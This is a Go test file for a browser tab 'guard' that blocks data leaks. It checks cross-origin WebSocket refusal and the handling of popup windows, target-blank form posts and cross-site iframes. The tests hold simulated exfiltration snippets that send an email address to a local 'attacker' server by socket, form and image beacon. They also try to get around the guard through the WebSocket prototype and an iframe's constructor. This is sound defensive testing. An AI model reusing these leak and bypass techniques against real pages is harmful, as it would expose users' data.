package browser

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"vroom/internal/testkit"
)

// socketSites is a page whose script opens a socket to its own origin
// and one to an attacker on another origin; each server counts the
// handshakes that reach it.
func socketSites(t *testing.T) (page *httptest.Server, away string, own, hits *atomic.Int32) {
	t.Helper()
	own, hits = new(atomic.Int32), new(atomic.Int32)
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
			hits.Add(1)
		}
		http.Error(w, "no", http.StatusBadRequest)
	}))
	t.Cleanup(attacker.Close)
	away = strings.Replace(attacker.URL, "http://127.0.0.1", "ws://localhost", 1)
	mux := http.NewServeMux()
	mux.HandleFunc("/ws", func(w http.ResponseWriter, r *http.Request) {
		if strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
			own.Add(1)
		}
		http.Error(w, "no", http.StatusBadRequest)
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>Chat</title><p>chat</p>`)
	})
	page = httptest.NewServer(mux)
	t.Cleanup(page.Close)
	return page, away, own, hits
}

// socketsJS opens a socket to each URL and answers, once every one has
// closed or been refused, which of them opened.
const socketsJS = `Promise.all(%s.map(u => new Promise(ok => {
  let ws; try { ws = new WebSocket(u); } catch (e) { ok(false); return; }
  let open = false;
  ws.onopen = () => { open = true; ws.close(); };
  ws.onclose = () => ok(open);
})))`

// openSockets opens a socket to each URL from the page and waits for
// them all to close.
func openSockets(t *testing.T, tab *Tab, urls ...string) {
	t.Helper()
	list, err := json.Marshal(urls)
	if err != nil {
		t.Fatal(err)
	}
	eval[[]bool](t, tab, fmt.Sprintf(socketsJS, list))
}

// TestGuardRefusesSocketsElsewhere: a guarded tab's socket to its page's
// own origin is opened; one to another host, or to another port of its
// host, is refused before its handshake leaves, until the holder allows that host; without the guard
// sockets go anywhere again.
func TestGuardRefusesSocketsElsewhere(t *testing.T) {
	t.Parallel()
	page, away, own, hits := socketSites(t)
	tab, ctx := openURL(t, page.URL+"/")
	stop, err := tab.Guard(ctx, func(ctx context.Context, r Request) error { return nil })
	if err != nil {
		t.Fatal(err)
	}
	// The guard's rule comes with the documents it lets load.
	if _, err := tab.Navigate(ctx, page.URL+"/chat"); err != nil {
		t.Fatal(err)
	}
	ownURL := strings.Replace(page.URL, "http://", "ws://", 1) + "/ws"
	leak := away + "/e?x=ada@example.com"
	// The page's own host on the attacker's port is another origin.
	samehost := strings.Replace(away, "localhost", "127.0.0.1", 1) + "/e?x=ada@example.com"
	openSockets(t, tab, ownURL, leak, samehost)
	if own.Load() != 1 || hits.Load() != 0 {
		t.Fatalf("own socket handshakes %d, attacker's %d: want 1 and 0", own.Load(), hits.Load())
	}
	// Nor by the doors beside the constructor: the prototype's, and an
	// empty iframe's.
	bypass := fmt.Sprintf(`(() => { const out = [];
  for (const C of [WebSocket.prototype.constructor, document.body.appendChild(document.createElement('iframe')).contentWindow.WebSocket]) {
    try { new C(%q); out.push('opened'); } catch (e) { out.push(e.name); }
  }
  return out.join(); })()`, leak)
	if got := eval[string](t, tab, bypass); got != "SecurityError,SecurityError" {
		t.Fatalf("sockets by the doors beside: %s", got)
	}
	if err := tab.AllowSockets(ctx, []string{"localhost"}); err != nil {
		t.Fatal(err)
	}
	if _, err := tab.Navigate(ctx, page.URL+"/chat"); err != nil {
		t.Fatal(err)
	}
	openSockets(t, tab, leak)
	if hits.Load() != 1 {
		t.Fatalf("an allowed host's handshakes: %d, want 1", hits.Load())
	}
	stop()
	if _, err := tab.Navigate(ctx, page.URL+"/"); err != nil {
		t.Fatal(err)
	}
	openSockets(t, tab, leak)
	if hits.Load() != 2 {
		t.Fatalf("unguarded handshakes: %d, want 2", hits.Load())
	}
}

// recordingGuard guards tab, refusing every request whose URL holds
// "leak", and records what it saw.
type recordingGuard struct {
	mu   sync.Mutex
	seen []Request
}

func (g *recordingGuard) check(_ context.Context, r Request) error {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.seen = append(g.seen, r)
	if strings.Contains(r.URL, "leak") {
		return errors.New("it leaks")
	}
	return nil
}

// saw returns the requests seen whose URL holds s.
func (g *recordingGuard) saw(s string) []Request {
	g.mu.Lock()
	defer g.mu.Unlock()
	var out []Request
	for _, r := range g.seen {
		if strings.Contains(r.URL, s) {
			out = append(out, r)
		}
	}
	return out
}

// counter is a server that counts the requests to each path.
func counter(t *testing.T, body string) (*httptest.Server, func(path string) int32) {
	t.Helper()
	var mu sync.Mutex
	hits := map[string]int32{}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits[r.URL.Path]++
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, body)
	}))
	t.Cleanup(s.Close)
	return s, func(path string) int32 {
		mu.Lock()
		defer mu.Unlock()
		return hits[path]
	}
}

// TestGuardHoldsWindowsFromTheirFirstRequest: windows a guarded tab's
// page opens (window.open with and without an opener, a form with a
// target) have their first navigation checked by the tab's guard, named
// as their own tab's: refused, it never reaches the server and the
// window closes; allowed, the window loads and its later requests are
// held by the same guard.
func TestGuardHoldsWindowsFromTheirFirstRequest(t *testing.T) {
	t.Parallel()
	attacker, hits := counter(t, "gotcha")
	tab, ctx := openURL(t, site.URL+"/")
	g := &recordingGuard{}
	stop, err := tab.Guard(ctx, g.check)
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	eval[any](t, tab, fmt.Sprintf(`(() => {
  window.open(%[1]q + '/leak-open');
  window.open(%[1]q + '/leak-noopener', '_blank', 'noopener');
  const f = document.createElement('form'); f.method = 'post'; f.action = %[1]q + '/leak-form'; f.target = '_blank';
  const i = document.createElement('input'); i.name = 'e'; i.value = 'ada@example.com'; f.appendChild(i);
  document.body.appendChild(f); f.submit();
  window.open('/inner.html?fine');
  return 1; })()`, attacker.URL))
	for _, path := range []string{"leak-open", "leak-noopener", "leak-form"} {
		testkit.WaitFor(t, 10*time.Second, "the guard's check of "+path, func() bool { return len(g.saw(path)) > 0 })
		r := g.saw(path)[0]
		if r.Tab == tab.ID() || r.Frame != r.Tab || r.Script {
			t.Errorf("%s: checked as %+v, want a window's own navigation", path, r)
		}
	}
	if r := g.saw("leak-form"); len(r) == 0 || r[0].Method != "POST" || !strings.Contains(r[0].Body, "ada%40example.com") {
		t.Errorf("the form's window: %+v", r)
	}
	testkit.WaitFor(t, 10*time.Second, "the allowed window's own requests", func() bool { return len(g.saw("favicon")) > 0 || len(g.saw("inner.html?fine")) > 0 })
	for _, path := range []string{"leak-open", "leak-noopener", "leak-form"} {
		id := g.saw(path)[0].Tab
		testkit.WaitFor(t, 10*time.Second, "the refused window closed", func() bool { _, err := testBrowser.Tab(id); return err != nil })
	}
	for _, p := range []string{"/leak-open", "/leak-noopener", "/leak-form"} {
		if n := hits(p); n != 0 {
			t.Errorf("%s reached the server %d times", p, n)
		}
	}
}

// TestGuardHoldsOutOfProcessFrames: a cross-site frame of a guarded tab,
// in its own process, loads as the page asked, checked as the frame's;
// what its script sends is held by the same guard.
func TestGuardHoldsOutOfProcessFrames(t *testing.T) {
	t.Parallel()
	attacker, hits := counter(t, "gotcha")
	frame, frames := counter(t, fmt.Sprintf(`<!doctype html><p>Pay here</p><script>new Image().src = %q;</script>`, attacker.URL+"/leak-img"))
	host, _ := counter(t, fmt.Sprintf(`<!doctype html><title>Shop</title><iframe src=%q></iframe>`, strings.Replace(frame.URL, "127.0.0.1", "localhost", 1)+"/pay"))
	tab, ctx := openURL(t, site.URL+"/")
	g := &recordingGuard{}
	stop, err := tab.Guard(ctx, g.check)
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	if _, err := tab.Navigate(ctx, host.URL+"/shop"); err != nil {
		t.Fatal(err)
	}
	testkit.WaitFor(t, 10*time.Second, "the frame's image checked", func() bool { return len(g.saw("leak-img")) > 0 })
	if frames("/pay") != 1 {
		t.Errorf("the frame loaded %d times, want 1", frames("/pay"))
	}
	if r := g.saw("/pay"); len(r) == 0 || r[0].Frame == tab.ID() {
		t.Errorf("the frame's load checked as %+v, want the frame's", r)
	}
	if r := g.saw("leak-img")[0]; !r.Script || r.Frame == tab.ID() {
		t.Errorf("the frame's image checked as %+v", r)
	}
	if hits("/leak-img") != 0 {
		t.Error("the frame's image reached the attacker")
	}
}
